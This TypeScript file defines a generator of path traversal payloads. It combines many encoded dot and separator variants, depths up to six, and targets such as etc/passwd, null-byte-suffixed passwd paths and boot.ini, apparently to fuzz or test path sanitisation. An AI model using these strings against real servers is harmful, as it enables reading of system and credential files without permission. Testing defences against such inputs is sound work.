/** Every way of writing "one folder up" that the public lists know: dots × separators × depth × what follows. */
export function* traversals(): Generator<string> {
  const dots = [
    '..',
    '.%2e',
    '%2e.',
    '%2e%2e',
    '%2E%2E',
    '%252e%252e',
    '%c0%ae%c0%ae',
    '%c0%2e',
    '%e0%40%ae',
    '%uff0e%uff0e',
    '%u002e%u002e',
  ]
  dots.push('..;', '..%00', '..%01', '..%09', '..%0d', '..%ff', '....', '.\\.', '%%32%65%%32%65', '%25%32%65', '．．', '0x2e0x2e')
  const separators = [
    '/',
    '\\',
    '%2f',
    '%2F',
    '%5c',
    '%5C',
    '%252f',
    '%255c',
    '%c0%af',
    '%c1%9c',
    '%c0%5c',
    '%e0%80%af',
    '%u2215',
    '//',
    '/./',
    '\\\\',
  ]
  separators.push('%%32%66', '%%35%63', '%25%32%66', '∕', '0x2f', '0x5c', '/%2e/', ';/')
  const ends = ['admin', 'etc/passwd', 'etc/passwd%00', 'etc/passwd%00.html', 'boot.ini', 'admin%3fx=1', '']
  for (const dot of dots)
    for (const separator of separators)
      for (const end of ends) for (let depth = 1; depth <= 6; depth++) yield `${(dot + separator).repeat(depth)}${end}`
}
